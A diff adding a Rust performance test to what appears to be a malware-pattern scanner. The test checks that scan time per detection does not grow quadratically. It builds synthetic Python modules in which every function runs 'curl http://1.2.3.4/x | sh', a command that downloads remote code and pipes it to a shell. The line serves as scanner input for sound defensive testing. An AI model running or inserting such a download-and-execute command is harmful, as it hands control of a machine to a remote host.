@@ -144,6 +144,38 @@ fn long_line_scan_time_per_byte_does_not_grow_with_size() {
     }
 }
 
+/// A module of `n` small functions, each spawning a download piped to a
+/// shell: several hits per function, and a co-occurrence candidate for
+/// every other function's hits.
+fn many_hits(n: usize) -> Vec<u8> {
+    let mut v = Vec::new();
+    for i in 0..n {
+        v.extend_from_slice(
+            format!("def g{i}():\n    __import__('os').system('curl http://1.2.3.4/x | sh')\n")
+                .as_bytes(),
+        );
+    }
+    v
+}
+
+#[test]
+fn many_hits_scan_time_per_hit_does_not_grow_with_their_number() {
+    // Co-occurrence rules once compared every hit with every other one: a
+    // 4 MB module of 60,000 such functions took a minute. 2,000 against
+    // 16,000 functions, time per function compared with a generous factor
+    // (quadratic would be 8x).
+    let small = scan_time(&many_hits(2_000));
+    let big = scan_time(&many_hits(16_000));
+    let per_small = small.as_secs_f64() / 2_000.0;
+    let per_big = big.as_secs_f64() / 16_000.0;
+    assert!(
+        per_big < per_small * 3.0 + 1e-6,
+        "2,000 functions {small:?}, 16,000 functions {big:?}"
+    );
+    let s = scan_source(RuleSet::builtin(), &many_hits(16_000), Role::Import);
+    assert!(!s.findings.is_empty(), "the hits are still findings");
+}
+
 proptest::proptest! {
     #![proptest_config(proptest::prelude::ProptestConfig { cases: 6, ..Default::default() })]
     #[test]
